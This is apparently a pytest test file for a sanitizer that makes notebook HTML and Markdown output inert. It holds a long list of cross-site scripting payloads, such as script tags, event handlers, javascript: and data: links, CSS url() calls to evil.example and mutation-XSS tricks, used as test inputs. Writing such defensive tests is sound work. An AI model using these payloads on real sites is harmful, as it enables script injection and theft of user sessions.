"""HTML and Markdown of contained code: tables and colours stay, nothing runs, nothing is requested."""

import re
import sys

import nh3
import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from page import Page, assert_inert, words

from container_magic.sanitize import allowed
from container_magic.sanitize.allowed import safe_style
from container_magic.sanitize.bundle import sanitize_bundle
from container_magic.sanitize.html import text_of
from container_magic.sanitize.markup import MAX_DEPTH, MAX_TAGS, well_nested
from container_magic.sanitize.mathematics import REFUSED_MACRO

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def shown(html, mode="safe"):
    """Return the page of an HTML output; ``kept`` stands beside it so that something is always left."""
    return assert_inert(sanitize_bundle({"text/html": f"<p>kept</p>{html}"}, {}, mode=mode).data["text/html"])


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\x0d>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img \x00src=x one\x00rror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)' ONCLICK=alert(1) onfocus=alert(1) tabindex=0 autofocus>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=//evil.example/v autoplay onplay=alert(1) poster=//evil.example/p></video>",
    "<audio src=//evil.example/a onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><keygen autofocus onfocus=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!-[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?><?php echo 1 ?>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='javascript&#58;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a><a href='blob:x'>x</a><a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a><a href='/hub/logout'>x</a><a href='../api/kernels'>x</a><a href='#x'>x</a>",
    "<a href='https://a.example' ping='https://evil.example' target=_self rel=opener download>x</a>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example>",
    "<link rel=dns-prefetch href=//evil.example><link rel=import href=//evil.example>",
    "<form action='javascript:alert(1)'><button formaction='javascript:alert(1)'>x</button></form>",
    "<form><input type=image src=//evil.example></form>",
    "<isindex action='javascript:alert(1)' type=image>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'><applet code=x></applet>",
    "<object><param name=x value=//evil.example></object>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<portal src='https://evil.example'></portal><fencedframe></fencedframe>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<div style=\"background-image:url('//evil.example')\">x</div>",
    "<div style='background:u\\72l(//evil.example)'>x</div>",
    "<div style='background:url/**/(//evil.example)'>x</div>",
    "<div style='background:image-set(\"//evil.example\" 1x)'>x</div>",
    "<div style='color:var(--x);content:attr(title)'>x</div>",
    "<div style='width:expression(alert(1));behavior:url(x);-moz-binding:url(x)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</div>",
    "<div style='margin-top:-500px;font-size:99999px'>x</div>",
    "<table background=//evil.example><tr background=//evil.example><td background=//evil.example>x</table>",
    "<img src=//evil.example/x.png srcset='//evil.example/2x 2x' lowsrc=//evil.example dynsrc=//evil.example>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'><img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<picture><source srcset=//evil.example><img src=/api/x></picture><image src=//evil.example>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote><q cite=//evil.example>x</q>",
    "<div id=ipython name=jupyter data-commandlinker-command='x' data-main=x contenteditable>x</div>",
    "<div class='jp-Dialog lm-Widget modal mathjax_process tex2jax_process MathJax'>x</div>",
    "<a name=cookie><form id=document><input name=cookie></form></a>",
    "<b>" * 200 + "<script>alert(1)</script>",
    "<table><script>alert(1)</script><tr><td><img src=x onerror=alert(1)>",
    "<p title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>",
    '<p title="\'><script>alert(1)</script>">x</p>',
    '<a href=https://a.example/"onmouseover=alert(1)>x</a>',
    "<slot name=x><dialog open><menu><command>x</dialog><x-y is=z>",
    "<script type=math/tex>\\href{javascript:alert(1)}{x}</script>",
    "\ufeff<\u0131mg src=x onerror=alert(1)>\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_inert(html):
    """No script, no handler, no other scheme, no request, nothing of the page's own names; what follows still shows."""
    page = shown(html)
    assert "kept" in page.text
    assert not re.search(r"jp-|lm-|modal|mathjax", str([attributes.get("class") for _, attributes in page.elements]))


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_in_markdown_is_inert(html):
    """Markdown embeds HTML; it gets the same treatment, in paragraphs, blocks, lists and quotes."""
    for source in (html, f"> kept {html}", f"- kept\n\n  {html}", f"[a]({html})", f"[a]: {html}\n\nkept [a]"):
        data = sanitize_bundle({"text/markdown": source}, {}, mode="safe").data
        if "text/html" in data:
            assert_inert(data["text/html"])


PIECES = st.sampled_from(
    [*HOSTILE, " ", "\n", *words("""
        < > / = " ' ` \0 & &lt; &#60; &#x3c <!-- --> <! <? <a <a/ </a> <b> </b> <p> </p> <div> </div> <table> </table>
        <tr> <td> </td> <li> <ul> </ul> <h1> <svg> </svg> <math> </math> <mtext> <style> </style> <title> </title>
        <script> </script> <select> <option> <caption> href= src= style= onload= class= id= javascript: data: http://x
        url( alert(1) \\href { } $ \\
    """)]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES | st.text(max_size=4), max_size=30).map("".join))
def test_any_html_is_inert(html):
    """Whatever is put together, in whatever order and however cut, the page is inert, and cleaning it again is idle."""
    for mime in ("text/html", "text/markdown"):
        clean = sanitize_bundle({mime: html}, {}, mode="safe").data
        if "text/html" in clean:
            page = assert_inert(clean["text/html"])
            again = sanitize_bundle({"text/html": clean["text/html"]}, {}, mode="safe").data
            assert Page(again.get("text/html", "")).text.split() == page.text.split()


@given(st.lists(PIECES, max_size=30).map("".join))
def test_well_nested_closes_what_it_opens(html):
    """What nh3 gets is balanced and shallow: its cost is linear."""
    open_elements = []
    for slash, name in re.findall(r"<(/?)(\w+)(?:\s[^<>\"]*(?:\"[^\"]*\"[^<>\"]*)*)?>", well_nested(html)):
        if slash:
            assert open_elements.pop() == name
        elif name not in {"br", "hr", "img", "col"}:
            open_elements.append(name)
        assert len(open_elements) <= MAX_DEPTH
    assert not open_elements


def test_too_many_tags_are_refused():
    """HTML with more tags than a page can bear is not shown, and a note says why."""
    clean = sanitize_bundle({"text/html": "<b>x</b>" * MAX_TAGS}, {}, mode="safe")
    assert set(clean.data) == {"text/plain"}
    assert "more than 100,000 tags" in clean.notes[0]


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 99_000,
        "".join(f"<b title=a{n}>" for n in range(9000)) + "<p>x" * 9000,
        "<a><div>" * 49_000,
        "<!--" * 9**6,
    ],
    ids=["deep", "reopened formatting", "adoption agency", "comments"],
)
def test_input_made_for_slow_parsers_gives_little(html):
    """What would cost a parser quadratic time and memory comes out no larger than it went in."""
    assert len(well_nested(html)) <= 2 * len(html)


@pytest.mark.parametrize(
    ("html", "written"),
    [
        ("1 < 2 <b>x", "1 &lt; 2 <b>x</b>"),
        ("<a>x<b><a>y</b></a>", "<a>x<b>y</b></a>"),
        ("<p>a<p>b<div>c", "<p>a</p><p>b</p><div>c</div>"),
        ("<ul><li>a<li>b<ul><li>c</ul></ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>"),
        ("<table><tr><td>a<td>b</div><tr><b>", "<table><tr><td>a</td><td>b</td></tr><tr></tr></table>"),
        ("<b><div>x</b>y</div>", "<b><div>x</div></b>y"),
    ],
)
def test_well_nested_ends_elements_as_a_browser_does(html, written):
    """Paragraphs, items, rows and cells end where the next begins; what no parser would nest is not nested."""
    assert well_nested(html) == written


def test_data_frame_keeps_its_table():
    """A DataFrame's table stays with class, border, alignment and cells; its style block goes."""
    frame = pd.DataFrame({"a": [1, 2], "b": ["<i>", "é"]})
    page = assert_inert(sanitize_bundle({"text/html": frame._repr_html_()}, {}, mode="safe").data["text/html"])
    assert page.find("table") == [{"border": "1", "class": "dataframe"}]
    assert page.find("tr")[0] == {"style": "text-align: right"}
    assert page.text.split() == ["a", "b", "0", "1", "<i>", "1", "2", "é"]


def test_styler_keeps_its_colours():
    """The rules of a Styler's style block stand on its cells, and its classes stay."""
    pytest.importorskip("jinja2")
    styler = pd.DataFrame(np.arange(4).reshape(2, 2), columns=["a", "b"]).style.highlight_max(color="yellow")
    html = styler.bar(subset=["a"]).set_caption("cap").to_html()
    page = assert_inert(sanitize_bundle({"text/html": html}, {}, mode="safe").data["text/html"])
    cells = {cell["class"]: cell.get("style", "") for cell in page.find("td")}
    assert cells["data row1 col1"] == "background-color: yellow"
    assert "linear-gradient(90deg, #d65f5f 100.0%, transparent 100.0%)" in cells["data row1 col0"]
    assert cells["data row0 col1"] == ""
    assert page.text.split()[0] == "cap"


def test_rules_of_a_style_block_are_cleaned_where_they_land():
    """A rule that moves to its element passes the same filter as a style attribute."""
    page = shown("<style>#x {color: red; background: url(//evil.example); position: fixed}</style><b id=x>x</b>")
    assert page.find("b") == [{"style": "color: red"}]


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("Color: RED; text-align:right", "color: red; text-align: right"),
        ("font-family:Menlo,'DejaVu Sans',monospace", "font-family: menlo,dejavu sans,monospace"),
        ("background:linear-gradient(90deg,#fff 5%)", "background: linear-gradient(90deg,#fff 5%)"),
        ("color:#008000;width:33.333333%", "color: #008000; width: 33.333333%"),
        ("border:1px solid rgba(0, 0, 0, .5)", "border: 1px solid rgba(0, 0, 0, .5)"),
        ("position:fixed", None),
        ("background:url(x)", None),
        ("background:URL (x)", None),
        ("color:red}body{color:red", None),
        ("color:\\72 ed", None),
        ("color", None),
        ("margin:-1px", None),
        ("width:100000px", None),
    ],
)  # fmt: skip
def test_style_keeps_looks_and_nothing_else(style, kept):
    """Colours, fonts, borders and alignment stay; URLs, escapes, positions and overlong lengths go."""
    assert safe_style(style) == kept


def test_link_opens_a_page_of_its_own():
    """A link to the web stays, opens elsewhere, and tells the other side nothing."""
    assert shown("<a href='https://a.example/?q=1&amp;b'>x</a>").find("a") == [
        {"href": "https://a.example/?q=1&b", "rel": "noopener noreferrer", "target": "_blank"}
    ]


def test_picture_in_html_is_encoded_anew():
    """An embedded PNG stays as pixels; one that is none goes, and a note counts it."""
    html = f"<p>x</p><img alt=p src='data:image/png;base64,{PIXEL}'><img src='data:image/png;base64,AAAA'>"
    clean = sanitize_bundle({"text/html": html}, {}, mode="safe")
    first, second = assert_inert(clean.data["text/html"]).find("img")
    assert first["src"].startswith("data:image/png;base64,iVBOR")
    assert first["src"] != f"data:image/png;base64,{PIXEL}"
    assert "src" not in second
    assert clean.notes == ("text/html is shown without 1 of its pictures",)


def test_scripts_are_mentioned():
    """Who misses what a script would have drawn is told where to find it."""
    clean = sanitize_bundle({"text/html": "<p>x</p><script>1</script>"}, {}, mode="safe")
    assert clean.notes == ("text/html is shown without its scripts; --html iframe runs them in a frame of its own",)
    clean = sanitize_bundle({"text/html": "<div id=plot></div><script>1</script>"}, {}, mode="safe")
    assert "nothing is left of it without its scripts" in clean.data["text/plain"]
    assert "--html iframe" in clean.data["text/plain"]


def test_interrupted_cleaning_shows_nothing(monkeypatch):
    """nh3 keeps an attribute whose filter raises; an interrupt in there must not let it through."""
    monkeypatch.setattr(sys, "unraisablehook", lambda _: None)
    monkeypatch.setattr(allowed, "safe_attribute", lambda name, value: 1 / 0)
    clean = sanitize_bundle({"text/html": "<a href='javascript:alert(1)'>x</a>"}, {}, mode="safe")
    assert set(clean.data) == {"text/plain"}


def test_panic_of_the_cleaner_shows_nothing(monkeypatch):
    """A panic inside nh3, which is no Exception, leaves a note and no HTML."""

    class Panic(BaseException):
        pass

    def panic(*arguments, **options):
        raise Panic

    monkeypatch.setattr(nh3, "clean", panic)
    clean = sanitize_bundle({"text/html": "<b>x</b>"}, {}, mode="safe")
    assert clean.data["text/plain"].startswith("text/html was not shown: it could not be cleaned")


@pytest.mark.parametrize("macro", ["href", "style", "htmlClass", "cssId", "require", "unicode", "def", "bbox"])
def test_formula_in_html_cannot_use(macro):
    """The page typesets formulas in HTML and Markdown: no text has a refused macro in one piece."""
    for mime in ("text/html", "text/markdown"):
        for source in (
            f"<b>kept</b> $\\{macro}{{x}}{{y}}$",
            f"$\\{macro[0]}<wbr>{macro[1:]}{{x}}$",
            f"kept $\\<!---->{macro}{{x}}$",
        ):
            page = assert_inert(sanitize_bundle({mime: source}, {}, mode="safe").data["text/html"])
            assert not [text for text in page.texts if REFUSED_MACRO.search(text)]


def test_refused_macro_can_still_be_read():
    """Outside of formulas a backslash is only a backslash: the text is the same as before."""
    assert "C:\\style\\x" in shown("C:\\style\\x", mode="safe").text


def test_markdown_becomes_html():
    """Headings, tables, code, links and formulas of Markdown are shown, and the source stays as text."""
    source = "# T\n\n| a |\n|---|\n| $x_1*2*3$ |\n\n`c` [l](https://a.example)\n\n$$\n\\frac{a_1}{b_1}\n$$\n"
    clean = sanitize_bundle({"text/markdown": source}, {}, mode="safe")
    assert set(clean.data) == {"text/html", "text/plain"}
    page = assert_inert(clean.data["text/html"])
    assert {"h1", "table", "td", "code", "a"} <= {tag for tag, _ in page.elements}
    assert "$x_1*2*3$" in page.text
    assert "\\frac{a_1}{b_1}" in page.text
    assert clean.data["text/plain"] == source


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(1))",
        "[x](javascript&#58;alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<javascript:alert(1)>",
        "[x]\n\n[x]: javascript:alert(1)",
        "[x]: <java\tscript:alert(1)>\n\n[x]",
        "![x](https://evil.example/x.png)",
        "![x][y]\n\n[y]: https://evil.example/x.png",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        '[x](https://a.example "title" onclick=alert(1))',
        '![x]("onerror=alert(1))',
        '<https://a.example/"onclick=alert(1)>',
        "[x](vbscript:alert(1)) [x](//evil.example) [x](/api/x)",
    ],
)
def test_links_and_pictures_of_markdown_are_inert(source):
    """Links of every form lead to the web only; remote pictures are not fetched."""
    clean = sanitize_bundle({"text/markdown": f"kept\n\n{source}"}, {}, mode="safe")
    assert "kept" in assert_inert(clean.data["text/html"]).text


def test_text_mode_shows_text():
    """In text mode there is no HTML: the bundle's own text, or else the text of the HTML."""
    html = "<table><tr><th>a</th><td>1 &lt; 2</td></tr>\n<tr><td>b</td></tr></table><script>alert(1)</script>"
    assert sanitize_bundle({"text/html": html, "text/plain": "own"}, {}, mode="text").data == {"text/plain": "own"}
    assert sanitize_bundle({"text/html": html}, {}, mode="text").data == {"text/plain": "a\t1 < 2\nb"}
    assert sanitize_bundle({"text/markdown": "# x"}, {}, mode="text").data == {"text/plain": "# x"}


def test_text_of_cleaned_html_keeps_lines_of_pre():
    """Preformatted text keeps its lines."""
    assert text_of("<pre>a\nb</pre>") == "a\nb"
